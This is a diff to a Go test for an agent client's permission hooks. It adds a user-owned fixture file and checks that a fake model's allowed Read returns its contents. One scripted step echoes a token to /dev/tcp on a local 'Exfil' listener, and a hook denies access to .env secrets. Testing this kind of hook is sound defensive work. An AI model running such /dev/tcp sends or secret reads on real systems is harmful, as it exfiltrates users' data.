@@ -8,7 +8,9 @@ import (
 	"encoding/hex"
 	"fmt"
 	"os"
+	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -111,6 +113,16 @@ func randomToken(tb testing.TB) string {
 func TestClient_HookDecisions(t *testing.T) {
 	settings := mustTestHookSettings(t)
 	control := "control-" + randomToken(t)
+	fixture := "fixture-" + randomToken(t)
+	fixturePath := filepath.Join(h.Scratch.Project, "sub", "dir", "fixture.txt")
+	if err := h.Scratch.WriteUserFile(fixturePath, []byte(fixture+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range []string{fixturePath, filepath.Dir(fixturePath), filepath.Dir(filepath.Dir(fixturePath))} {
+		if fi, err := os.Stat(p); err != nil || fi.Sys().(*syscall.Stat_t).Uid != h.User.UID {
+			t.Fatalf("%s is not the test user's: %v", p, err)
+		}
+	}
 	s := mustRunSession(t, SessionOptions{
 		Name:     "decisions",
 		Settings: settings,
@@ -122,7 +134,7 @@ func TestClient_HookDecisions(t *testing.T) {
 			// Positive controls: an allowed command does reach the listener,
 			// and an allowed Read does return file content.
 			fakemodel.Bash(fmt.Sprintf("echo %s > /dev/tcp/127.0.0.1/%d", control, h.Exfil.Port())),
-			fakemodel.Read("notes.txt"),
+			fakemodel.Read("sub/dir/fixture.txt"),
 		},
 	})
 	tr := s.Transcript
@@ -147,7 +159,7 @@ func TestClient_HookDecisions(t *testing.T) {
 		{OutcomeDeniedByHook, "deny", true, "test hook: .env holds secrets"},
 		{OutcomeAskedByHook, "ask", true, "test hook: needs a human"},
 		{OutcomeRan, "", false, ""},
-		{OutcomeRan, "", false, "hello from notes"},
+		{OutcomeRan, "", false, fixture},
 	}
 	for i, w := range want {
 		c := s.Call(i)
